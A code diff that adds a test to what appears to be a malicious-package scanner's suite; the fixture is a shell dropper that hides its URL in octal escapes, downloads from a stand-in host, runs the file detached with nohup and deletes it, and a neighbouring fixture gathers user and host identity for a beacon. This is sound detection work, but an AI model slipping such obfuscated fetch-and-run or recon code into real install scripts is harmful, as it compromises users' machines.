@@ -131,6 +131,19 @@ def test_shell_file_that_downloads_then_runs_is_a_dropper():
     assert "install-script/download-execute" not in rules(artifact({"install": "sh get.sh"}, {"get.sh": fetch_only}))
 
 
+def test_shell_file_with_an_escaped_url_saved_to_a_variable_then_run_detached_is_a_dropper():
+    # (blind set 8's typosquat: the URL in printf octal escapes, the download run through nohup sh -c)
+    url = "".join(f"\\{ord(c):03o}" for c in "http://cdn.example/s/setup.sh")
+    script = (f"#!/bin/sh\nu=$(printf '{url}')\nd=\"${{TMPDIR:-/tmp}}/.cache-$$\"\n"
+              "curl -fsSL \"$u\" -o \"$d\" 2>/dev/null\n"
+              "if [ -s \"$d\" ]; then\n  ( nohup sh -c \"sh '$d' ; rm -f '$d'\" >/dev/null 2>&1 & )\nfi\n").encode()
+    found = findings(artifact({"install": "sh ./scripts/install.sh || exit 0"}, {"scripts/install.sh": script}))
+    assert any(f.rule == "install-script/downloads" and "http://cdn.example/s/setup.sh" in f.message for f in found)
+    drop = next(f for f in found if f.rule == "install-script/download-execute")
+    assert drop.line == 6 and drop.details["downloaded_at"] == 4
+    assert decide(found).level is Level.MALICIOUS
+
+
 def test_shell_file_beacon_split_over_a_variable_is_malicious():
     # Identity collected into a variable on one line, posted on another (the dependency-confusion recon script).
     script = (b"#!/bin/sh\nINFO=\"u=$(whoami)&h=$(hostname -f)&d=$(pwd)\"\n"
